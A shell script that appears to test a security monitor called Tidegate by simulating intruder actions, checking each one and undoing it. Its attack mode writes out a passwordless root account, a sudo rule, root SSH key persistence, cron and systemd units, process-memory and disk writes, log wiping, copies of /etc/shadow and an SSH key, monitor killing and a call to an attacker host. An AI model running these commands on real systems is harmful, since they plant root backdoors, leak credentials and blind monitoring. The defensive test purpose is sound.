#!/bin/sh
# What somebody who got in reaches for, one thing after the other, and whether it came about.
#   reach.sh attack         tries it all; run by the intruder (`configure`: as a package's script)
#   reach.sh came THING     did it come about? Run by a trusted user
#   reach.sh right          puts everything right again; the first time, remembers what is right
#   reach.sh things         their names, and what each is
KEPT=/usr/local/share/reach

account_attack() { echo evil::0:0::/root:/bin/sh >>/etc/passwd; }
account_came() { grep -q ^evil: /etc/passwd; }
account_right() { sed -i /^evil:/d /etc/passwd; }

sudo_attack() { echo 'www-data ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/evil; }
sudo_came() { [ -s /etc/sudoers.d/evil ]; }
sudo_right() { rm -f /etc/sudoers.d/evil; }

rootkey_attack() { echo evil >>/root/.ssh/authorized_keys; }
rootkey_came() { grep -q ^evil /root/.ssh/authorized_keys; }
rootkey_right() { sed -i /^evil/d /root/.ssh/authorized_keys; }

program_attack() { cp /usr/bin/true /usr/bin/evil && mv /usr/bin/evil /usr/bin/who; }
program_came() { ! cmp -s /usr/bin/who "$KEPT/who"; }
program_right() { rm -f /usr/bin/evil && kept /usr/bin/who; }

unit_attack() {
	printf '[Service]\nExecStart=/bin/sh -c "touch /run/evil"\n' >/etc/systemd/system/evil.service
	systemctl daemon-reload && systemctl start evil
	systemd-run sh -c "touch /run/evil"
}
unit_came() { [ -e /etc/systemd/system/evil.service ] || [ -e /run/evil ]; }
unit_right() { rm -f /etc/systemd/system/evil.service /run/evil && systemctl daemon-reload; }

cron_attack() { echo '* * * * * root touch /run/evil' >/etc/cron.d/evil; }
cron_came() { [ -e /etc/cron.d/evil ]; }
cron_right() { rm -f /etc/cron.d/evil; }

module_attack() { modprobe dummy; }
module_came() { grep -q '^dummy ' /proc/modules; }
module_right() { ! module_came || rmmod dummy; }

service_attack() { systemctl stop cron || kill -9 "$(pidof cron)"; }
service_came() { [ "$(pidof cron)" != "$(cat "$KEPT/cron")" ]; }
service_right() {
	systemctl is-active -q cron || systemctl restart cron
	pidof cron >"$KEPT/cron"
}

memory_attack() { # of a process of the system's
	python3 -c 'import sys
with open(f"/proc/{sys.argv[1]}/mem", "r+b") as m:
    m.seek(int(sys.argv[2], 16)); m.write(b"evil")' "$(cat "$KEPT/victim")" "$(head -1 "/proc/$(cat "$KEPT/victim")/maps" | cut -d- -f1)"
}
memory_came() {
	python3 -c 'import sys
with open(f"/proc/{sys.argv[1]}/maps") as maps: start = int(maps.readline().split("-")[0], 16)
with open(f"/proc/{sys.argv[1]}/mem", "rb") as m: m.seek(start); sys.exit(m.read(4) != b"evil")' "$(cat "$KEPT/victim")"
}
memory_right() {
	[ ! -s "$KEPT/victim" ] || kill "$(cat "$KEPT/victim")" 2>/dev/null
	setsid sleep infinity >/dev/null 2>&1 </dev/null &
	echo $! >"$KEPT/victim"
}

disk_attack() { # the boot sector, which nothing boots from here
	disk=$(findmnt -no SOURCE /) && printf evil | dd of="$disk" bs=4 conv=notrunc,fsync
}
disk_came() { [ "$(head -c 4 "$(findmnt -no SOURCE /)")" = evil ]; }
disk_right() { head -c 4 /dev/zero | dd of="$(findmnt -no SOURCE /)" bs=4 conv=notrunc,fsync 2>/dev/null; }

log_attack() { : >/var/log/syslog; }
log_came() { ! grep -q 'what must stay' /var/log/syslog; }
log_right() {
	logger 'what must stay'
	for _ in $(seq 50); do
		log_came || return 0
		sleep 0.2
	done
	return 1
}

site_attack() { echo evil >/var/www/html/index.php; }
site_came() { ! cmp -s /var/www/html/index.php "$KEPT/index.php"; }
site_right() { kept /var/www/html/index.php; }

home_attack() { echo evil >>/home/alice/.bashrc; }
home_came() { grep -q ^evil /home/alice/.bashrc; }
home_right() { sed -i /^evil/d /home/alice/.bashrc; }

key_attack() { cp /home/alice/.ssh/id /dev/shm/evil.key; }
key_came() { cmp -s /home/alice/.ssh/id /dev/shm/evil.key; }
key_right() { rm -f /dev/shm/evil.key; }

shadow_attack() { cp /etc/shadow /dev/shm/evil.shadow; }
shadow_came() { cmp -s /etc/shadow /dev/shm/evil.shadow; }
shadow_right() { rm -f /dev/shm/evil.shadow; }

database_attack() { cd / && setpriv --reuid postgres --regid postgres --clear-groups psql -q -c 'CREATE TABLE evil ()' shop; }
database_came() { psql_here -c '\dt' | grep -q evil; }
database_right() { psql_here -q -c 'DROP TABLE IF EXISTS evil' 2>/dev/null; }
psql_here() { (cd / && runuser -u postgres -- psql "$@" shop); }

tmp_attack() { echo evil >/tmp/evil; }
tmp_came() { [ -s /tmp/evil ]; }
tmp_right() { rm -f /tmp/evil; }

out_attack() { curl -s "http://192.0.2.2:8000/evil-was-here"; }
out_came() { grep -q evil-was-here /srv/remote/http.log; }
out_right() { : >/srv/remote/http.log; }

monitor_attack() {
	tidegate stop
	kill -9 "$(cat /run/tidegate/pid)"
	rm -rf /sys/fs/bpf/tidegate
}
# where there is none nobody has to
monitor_came() {
	! [ -e "$KEPT/monitor" ] || ! tidegate status | grep -q '(enforcing)' ||
		[ "$(cat /run/tidegate/pid)" != "$(cat "$KEPT/monitor")" ]
}
monitor_right() {
	! [ -e /etc/tidegate ] || {
		monitor_came && systemctl restart tidegate
		cp /run/tidegate/pid "$KEPT/monitor"
	}
}

things() {
	cat <<-'THINGS'
		account an account in `/etc/passwd`
		sudo a rule for sudo
		rootkey a key to root's account
		program a program in `/usr/bin` replaced
		unit a systemd unit, or a command through systemd
		cron a cron job
		module a kernel module
		service a service of the system stopped
		memory the memory of another process written
		disk the disk's blocks written
		log the system's log emptied
		monitor Tidegate ended
		site the web site's pages changed
		home a user's `.bashrc`
		key a user's ssh key read
		shadow `/etc/shadow` read
		database a table in the database
		tmp a file in `/tmp`
		out a connection to the attacker
	THINGS
}

# kept FILE: as it was the first time.
kept() {
	if [ -e "$KEPT/${1##*/}" ]; then cp -p "$KEPT/${1##*/}" "$1"; else cp -p "$1" "$KEPT"; fi
}

case $1 in
attack | configure)
	for thing in $(things | cut -d' ' -f1); do
		("${thing}_attack") >/dev/null 2>&1 </dev/null
	done
	true
	;;
came) "${2}_came" ;;
right)
	mkdir -p "$KEPT"
	for thing in $(things | cut -d' ' -f1); do
		"${thing}_right" || echo "reach.sh: the $thing stays wrong" >&2
	done
	;;
things) things ;;
esac
